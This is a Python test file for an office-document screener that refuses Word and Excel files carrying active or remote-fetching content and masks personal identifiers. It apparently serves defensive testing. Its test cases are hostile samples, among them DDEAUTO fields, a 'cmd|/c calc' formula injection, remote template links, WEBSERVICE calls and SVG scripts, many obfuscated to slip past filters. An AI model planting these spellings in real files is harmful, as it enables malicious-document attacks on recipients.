"""What can run or fetch in a Word or Excel file is refused in every spelling that XML and packages have."""

import io
import zipfile

import pytest
from hostile import RELATIONS, archive, relation, said, with_cells
from making import OFFICE, OPEN, WORD, docx, header, paragraph, png, xlsx

from mips_ia import Refused
from mips_ia.screening.looking import looked, masked

YEAR = 2026
MBI = "1EG4-TE5-MK73"
BODY = paragraph("A policy.")
REMOTE = relation("attachedTemplate", "http://elsewhere.demo.example/t.dotm")
DDE = r'DDEAUTO c:\\run "x"'
TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SVG = "http://www.w3.org/2000/svg"


def codes(content: bytes, name: str = "a.docx") -> set[str]:
    """Why a file is refused; nothing where it is taken."""
    try:
        looked(content, name, YEAR)
    except Refused as refusal:
        return {each.code for each in refusal.problems}
    return set()


def settings(relations: str | bytes) -> bytes:
    return docx(BODY, **{"word___rels__settings.xml.rels": relations})


def field(*runs: str) -> bytes:
    return docx("<w:p>" + "".join(f"<w:r>{each}</w:r>" for each in runs) + "</w:p>")


def instruction(text: str) -> str:
    return f"<w:instrText>{text}</w:instrText>"


def mark(kind: str) -> str:
    return f'<w:fldChar w:fldCharType="{kind}"/>'


def declared(more: str, *parts: tuple[str, bytes], body: str = BODY) -> bytes:
    """A Word file of whose parts the package says more."""
    types = (
        f'<Types xmlns="{OPEN}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{TYPE}.document.main+xml"/>{more}</Types>'
    )
    return archive(
        ("[Content_Types].xml", types.encode()), ("word/document.xml", said(body).encode()), *parts
    )


def formula(text: str) -> bytes:
    return with_cells(f'<c r="A1"><f>{text}</f><v>1</v></c>')


def part_of(name: str, content: bytes, book: bytes) -> bytes:
    """A workbook with one part put in the place of another."""
    with zipfile.ZipFile(io.BytesIO(book)) as held:
        return archive(*((each, content if each == name else held.read(each)) for each in held.namelist()))


BOOK = xlsx([["A", 1]])
NAMES = (
    f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OFFICE}"><sheets>'
    '<sheet name="A" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="n">'
    'WEBSERVICE("http://elsewhere.demo.example/")</definedName></definedNames></workbook>'
)
HEADER = declared(
    f'<Override PartName="/word/header1.part" ContentType="{TYPE}.header+xml"/>',
    ("word/header1.part", f'<w:hdr xmlns:w="{WORD}"><w:p>{instruction(DDE)}</w:p></w:hdr>'.encode()),
)
CHUNK = declared(
    '<Default Extension="htm" ContentType="text/plain"/>',
    ("word/c.htm", b"Hi <script>x()</script>"),
    ("word/_rels/document.xml.rels", relation("aFChun&#107;", "c.htm", outside=False).encode()),
)


@pytest.mark.parametrize("content", [
    settings(REMOTE.replace("External", "Extern&#97;l")), settings(REMOTE.replace("External", " external ")),
    settings(REMOTE.replace("t.dotm", "t.dotm?>")), settings(REMOTE.encode("utf-16")),
    settings(REMOTE.replace('"http://elsewhere.demo.example/t.dotm"', "'http://elsewhere.demo.example/?Type=\"/hyperlink\"'")),
    settings(REMOTE.replace(' TargetMode="External"', "")), settings(REMOTE.replace("<Relationship ", "<q:Relationship xmlns:q='a' ")),
    declared("", ("word/a.part", REMOTE.encode())),
    docx(BODY, word__a='<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\elsewhere\\a.png"/>'),
    docx(BODY, word__a='<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="o" o:href="http://elsewhere.demo.example/a.png"/>'),
    docx(BODY, word__settings=f'<w:settings xmlns:w="{WORD}"><w:mailMerge><w:connectString w:val="Provider=x"/><w:query w:val="SELECT 1"/></w:mailMerge></w:settings>'),
    docx(BODY, word__a="<webImagesSrd xmlns='http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage'/>"),
    CHUNK, declared('<Default Extension="part" ContentType="text/html"/>', ("word/a.part", b"Hi")),
    declared('<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.document.m&#97;croEnabled.main+xml"/>'),
    *(declared("", (path, b"<a/>")) for path in ("word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml")),
    declared("", ("word/ribbon", b"\xef\xbb\xbf <customUI xmlns='http://schemas.microsoft.com/office/2006/01/customui'/>")),
])  # fmt: skip
def test_what_a_package_brings_or_fetches_is_refused_however_it_says_so(content: bytes) -> None:
    assert codes(content) == {"file_active"}


@pytest.mark.parametrize(
    "path", ["xl/macrosheets/sheet1.xml", "xl/externalLinks/externalLink1.xml", "xl/Connections.xml"]
)
def test_a_part_that_lies_where_such_parts_do_is_one(path: str) -> None:
    with zipfile.ZipFile(io.BytesIO(BOOK)) as held:
        parts = [(each, held.read(each)) for each in held.namelist()]

    assert codes(archive(*parts, (path, b"<a/>")), "a.xlsx") == {"file_active"}


@pytest.mark.parametrize("content", [
    docx(f"<w:p>{instruction(DDE)}</w:p>".replace("w:instrText", "q:instrText").replace("<w:p>", f'<w:p xmlns:q="{WORD}">')),
    field(instruction("DDE&#65;UTO c:")), field(instruction("<![CDATA[DDE]]>AUTO c:")), field(instruction("DDE<!-- x -->AUTO c:")),
    field(instruction("DD"), instruction("EAUTO c:")), field(mark("begin"), instruction("PAGE"), mark("end"), mark("begin"), instruction("DDE c:")),
    field(mark("begin"), instruction("DD"), mark("begin"), instruction("REF x"), mark("separate"), "<w:t>EAUTO c:</w:t>", mark("end"), mark("end")),
    field(instruction("QUOTE 68 68 69 65 85 84 79")), field("<w:delInstrText>DDEAUTO c:</w:delInstrText>"),
    docx("<w:p><w:fldSimple w:instr='LINK Excel.Sheet.12 \"\\\\\\\\elsewhere\\\\a.xlsx\"'/></w:p>"),
    docx("<w:p><w:fldSimple w:instr='INCLUDEPICTURE \\d file://elsewhere/a.png'/></w:p>"),
    archive(("[Content_Types].xml", b"<a/>"), ("word/document.xml", f'<?xml version="1.0" encoding="UTF-16"?>{said(instruction(DDE))}'.encode("utf-16"))),
    field(instruction("INCLUDEPICTURE //elsewhere/a.png")), field(instruction(r"INCLUDETEXT \\elsewhere\a.docx")),
    field(instruction("INCLUDETEXT file:elsewhere")), HEADER,
])  # fmt: skip
def test_a_field_that_runs_or_fetches_is_refused_however_it_is_written(content: bytes) -> None:
    assert codes(content) == {"file_active"}


@pytest.mark.parametrize("content", [
    formula('WEB&#83;ERVICE("http://x")'), formula('_xlfn.IMAGE ("http://x")'), formula("cmd|'/c calc'!A0"),
    formula("'http://elsewhere.demo.example/[a.xlsx]S'!A1"), formula("[http://elsewhere.demo.example/a.xlsx]S!A1"), formula('RTD("x",,"y")'), formula('A1&amp;"a"&amp;CALL("x")'),
    formula("'\"'!A1+WEBSERVICE(\"x\")"), formula("T[a'#b]&amp;WEBSERVICE(A1)&amp;T[c'#d]"),
    part_of("xl/workbook.xml", NAMES.encode(), BOOK),
    part_of("xl/worksheets/sheet1.xml", b"<x:worksheet xmlns:x='a'><x:dataValidation><x:formula1>WEBSERVICE(A1)</x:formula1></x:dataValidation></x:worksheet>", BOOK),
])  # fmt: skip
def test_a_formula_that_runs_or_fetches_is_refused_wherever_it_stands(content: bytes) -> None:
    assert codes(content, "a.xlsx") == {"file_active"}


@pytest.mark.parametrize("drawing", [
    "<svg:script>x()</svg:script>", '<svg:g onload="x()"/>', '<svg:a href=" java&#115;cript:x()"/>',
    '<svg:image href="http://elsewhere.demo.example/a.png"/>', "<svg:style>@import 'http://x'</svg:style>",
    "<svg:style>@font-face{src:url(http://x/a)}</svg:style>", "<svg:path style='fill:u/**/rl( \"//x/a\" )'/>", "<svg:path fill='url(http://x/a#b)'/>",
    "<svg:a href='java&#10;script:x()'/>", "<svg:animate values='a;javascript:x()'/>", "<svg:textPath href='http://x/a'/>",
    "<svg:use href='data:image/svg+xml;base64,x'/>", "<svg:g><a:video xmlns:a='http://www.w3.org/1999/xhtml' src='http://x/a'/></svg:g>",
])  # fmt: skip
def test_a_drawing_that_runs_or_fetches_is_refused(drawing: str) -> None:
    content = f"<svg:svg xmlns:svg='{SVG}'>{drawing}</svg:svg>".encode()
    styled = f"<?xml-stylesheet href='http://x/a.css'?><svg:svg xmlns:svg='{SVG}'/>"

    assert codes(docx(BODY, **{"word__media__a.svg": content})) == {"file_active"}
    assert codes(docx(BODY, **{"word__media__a.svg": styled})) == {"file_active"}
    assert codes(docx(BODY, **{"word__media__a.dat": content.decode().encode("utf-16")})) == {"file_active"}


@pytest.mark.parametrize(("content", "name"), [
    (docx(BODY, **{"word___rels__document.xml.rels": relation("hyperlink", "https://www.demo.example/?a=1&amp;b=2")}), "a.docx"),
    (settings(relation("attachedTemplate", r"file:///C:\Templates\Normal.dotm")), "a.docx"),
    (field(mark("begin"), instruction(" PAGE "), mark("separate"), "<w:t>1</w:t>", mark("end")), "a.docx"),
    (docx(paragraph("DDE and WEBSERVICE(x) are words; ADDED.") + '<w:fldSimple w:instr="MERGEFIELD ADDED"/>'), "a.docx"),
    (docx('<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:num>|x|</m:num></m:f>'), "a.docx"),
    (field(instruction(r'INCLUDETEXT "C:\\Notes\\a.docx" part \* MERGEFORMAT')), "a.docx"), (formula("[1]S!A1+T[http]"), "a.xlsx"),
    (formula('"call (207) 555-0136 | x"&amp;\'A|B\'!A1&amp;T[a|b]'), "a.xlsx"), (formula('HYPERLINK("http://x","a")'), "a.xlsx"),
    (docx(BODY, **{"word__media__a.svg": f"<svg xmlns='{SVG}'><path d='M0 0' fill='url(#a)' style='stroke:url( #b )'/><a href='http://x/'/><image href='data:image/png;base64,x'/></svg>"}), "a.docx"),
])  # fmt: skip
def test_what_only_looks_like_it_is_taken(content: bytes, name: str) -> None:
    assert codes(content, name) == set()


@pytest.mark.parametrize("part", [
    b"<a", b"<!DOCTYPE a><a/>", b"<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>", b"<a>&x;</a>", b" \n<a></b>",
    "<a".encode("utf-16"), "<a".encode("utf-16-be"), "<a".encode("utf-32"),
])  # fmt: skip
def test_a_part_that_begins_like_xml_and_cannot_be_read_is_refused(part: bytes) -> None:
    assert codes(declared("", ("word/a.part", part))) == {"file_broken"}


def test_a_part_is_searched_whatever_it_is_called() -> None:
    content = declared(
        f'<Override PartName="/word/header1.part" ContentType="{TYPE}.header+xml"/>',
        ("word/header1.part", header(MBI).encode()),
    )

    assert [kind for kind, _ in looked(content, "a.docx", YEAR).findings] == ["mbi"]
    assert looked(masked(content, "a.docx", YEAR), "a.docx", YEAR).findings == []


def test_a_part_that_is_no_text_is_noted_and_searched_and_a_picture_is_one_wherever_it_lies() -> None:
    content = declared(
        '<Default Extension="pic" ContentType="image/png"/>',
        ("word/pictures/1.pic", png()), ("word/note.dat", f"\0\1 {MBI}".encode()), ("word/b.bin", b"\0\1\2"),
    )  # fmt: skip
    found = looked(content, "a.docx", YEAR)

    assert [each.code for each in found.notes] == ["pictures_unread", "parts_unread"]
    assert "2 parts" in found.notes[1].what
    assert [kind for kind, _ in found.findings] == ["mbi"]
    assert looked(masked(content, "a.docx", YEAR), "a.docx", YEAR).findings == []


def test_settings_of_a_printer_and_letters_to_be_drawn_are_not_noted() -> None:
    kinds = ("spreadsheetml.printerSettings", "obfuscatedFont")
    more = "".join(
        f'<Override PartName="/word/{number}.bin" ContentType="application/vnd.openxmlformats-officedocument.{kind}"/>'
        for number, kind in enumerate(kinds)
    )
    content = declared(more, ("word/0.bin", "Printer".encode("utf-16-le")), ("word/1.bin", b"\0\1\2"))

    assert looked(content, "a.docx", YEAR).notes == []


def test_sheets_and_their_texts_are_found_by_what_leads_to_them() -> None:
    book = xlsx([["Name", "SSN"], ["Doe", 219456783]])
    with zipfile.ZipFile(io.BytesIO(book)) as held:
        parts = [
            (each.replace("worksheets/sheet1.xml", "a/s.part").replace("sharedStrings.xml", "t.part"),
             held.read(each).replace(b"worksheets/sheet1.xml", b"a/s.part").replace(b"sharedStrings.xml", b"t.part"))
            for each in held.namelist()
        ]  # fmt: skip

    assert looked(archive(*parts), "a.xlsx", YEAR).findings == [("ssn", "sheet 1, row 2, column B")]


def test_what_a_program_remarks_does_not_part_the_word_around_it() -> None:
    content = docx("<w:p><w:r><w:t>1EG4-TE<!-- a remark -->5-MK73</w:t></w:r></w:p><!-- SSN 219-45-6783 -->")

    assert sorted(kind for kind, _ in looked(content, "a.docx", YEAR).findings) == ["mbi", "ssn"]
    assert looked(masked(content, "a.docx", YEAR), "a.docx", YEAR).findings == []


def test_relations_are_none_of_other_words() -> None:
    assert codes(docx(BODY, customXml__item1=RELATIONS.format(""))) == set()
